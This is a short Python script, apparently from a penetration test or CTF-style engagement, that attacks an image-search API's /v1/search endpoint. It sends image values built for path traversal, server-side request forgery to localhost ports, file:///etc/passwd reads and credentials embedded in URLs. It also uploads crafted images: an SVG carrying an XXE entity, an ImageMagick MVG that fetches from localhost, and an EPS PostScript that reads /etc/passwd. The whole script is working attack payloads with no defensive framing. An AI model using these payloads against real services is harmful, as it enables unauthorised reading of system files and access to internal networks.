from h import *
# image=s3:// traversal & oracle
for k in ['none','search1']:
  for im in ['s3://pixr/thumbnails/14/19/0.webp','s3://pixr/thumbnails/16/18/0.webp','s3://pixr/thumbnails/77/1/0.webp','s3://pixr/bruno-folder/notes/plan2.txt','s3://pixr/ledger/','s3://pixr/images/x.png','s3://pixr/images/../thumbnails/16/18/0.webp','s3://other/x.png','http://127.0.0.1:8900/','file:///etc/passwd','s3://pixr/nope.png','s3://u:p@pixr/x']:
    x=r('GET','/v1/search',k,params={'image':im}); print(k,im,x.status_code,x.text[:230])
import base64
svg=b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><image xlink:href="http://127.0.0.1:8900/x" width="10" height="10"/><text>&x;</text></svg>'
mvg=b'push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 "http://127.0.0.1:9911/x.png"\npop graphic-context\n'
eps=b'%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n(/etc/passwd) (r) file\nshowpage\n'
for n,b in (('svg',svg),('mvg',mvg),('eps',eps)):
  x=r('POST','/v1/search',json={'image':base64.b64encode(b).decode()}); print(n,x.status_code,x.text[:250])
import json as J
d=J.load(open('openapi.json'));print(J.dumps(d['paths']['/v1/search']['post']['requestBody'])[:1500])
